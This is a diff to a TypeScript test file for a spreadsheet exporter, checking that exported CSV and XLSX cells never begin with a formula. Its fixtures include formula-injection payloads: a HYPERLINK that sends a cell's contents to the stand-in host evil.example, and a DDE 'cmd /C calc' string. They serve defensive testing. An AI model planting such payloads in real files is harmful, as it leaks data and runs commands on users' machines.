@@ -3,6 +3,7 @@ import fc from 'fast-check';
 import papaparse from 'papaparse';
 import readExcelFile from 'read-excel-file/node';
 import { describe, expect, test } from 'vitest';
+import { looksLikeFormula } from '../../shared/kinds/cells.ts';
 import { type Cell, cellOf, type Value } from '../data/cells.ts';
 import { formats } from './formats.ts';
 
@@ -46,11 +47,36 @@ const formulas: readonly (readonly [string, string])[] = [
   ['a zero-width space', '\u200b=1+1'],
 ];
 
+/** As a spreadsheet reads a CSV file where the list separator is a semicolon, and quotes only at a cell's beginning count: breaks in a cell end its row. */
+const partedBySemicolons = (file: Buffer): string[] =>
+  file
+    .toString('utf8')
+    .slice(1)
+    .split(/[;\t\r\n]/)
+    .map((cell) => cell.replace(/^""/, ''));
+
+test.each([
+  ['a semicolon', 'Guards;=HYPERLINK("http://evil.example?"&A1,"x");'],
+  ['a semicolon and a blank', 'Guards; =1+1;'],
+  ['a semicolon and a full-width sign', 'Guards;＝1+1;'],
+  ['a semicolon and a quote', 'Guards;"=1+1;'],
+  ['a tab', 'Guards\t+1;'],
+  ['a line break', "Guards\r\n-2+cmd|'/C calc'!A0;"],
+  ['a line break and a semicolon', 'Guards\n;@SUM(A1);'],
+])('attack 25: csv has no cell that begins with a formula behind %s either', async (_, text) => {
+  const cells = partedBySemicolons(await fileOf('csv', ['A', 'B', 'C'], [['plain', text, 'plain; and = plain']]));
+
+  expect(cells.filter(looksLikeFormula)).toEqual([]);
+  expect(cells.join('')).toContain(' and = plain');
+});
+
 describe.each(['csv', 'xlsx'] as const)('%s', (format) => {
   test.each(formulas)('attack 25: writes a text that begins with %s behind an apostrophe', async (_, text) => {
     const [, row] = await readBack(format, await fileOf(format, ['A', 'B'], [['plain', text]]));
 
-    expect(String(row?.[1]).replace(/\r\n?/g, '\n')).toBe(`'${text}`.replace(/\r\n?/g, '\n'));
+    // In CSV what stands behind a tab or a break may be a cell of its own, and is guarded as one.
+    const guarded = format === 'csv' ? text.replace(/^[\t\r\n](?==)/, "$&'") : text;
+    expect(String(row?.[1]).replace(/\r\n?/g, '\n')).toBe(`'${guarded}`.replace(/\r\n?/g, '\n'));
   });
 
   test('leaves numbers, negative ones too, and everything else as it is', async () => {
@@ -66,7 +92,7 @@ describe.each(['csv', 'xlsx'] as const)('%s', (format) => {
   test('gives back any printable text that was put in', async () => {
     const text = fc
       .string({ unit: 'grapheme', minLength: 1, maxLength: 20 })
-      .filter((one) => /^[\p{L}\p{N}]/u.test(one) && one.trim() === one && !/\p{Cc}/u.test(one));
+      .filter((one) => /^[\p{L}\p{N}]/u.test(one) && one.trim() === one && !/[\p{Cc};]/u.test(one));
 
     await fc.assert(
       fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), async (rows) => {
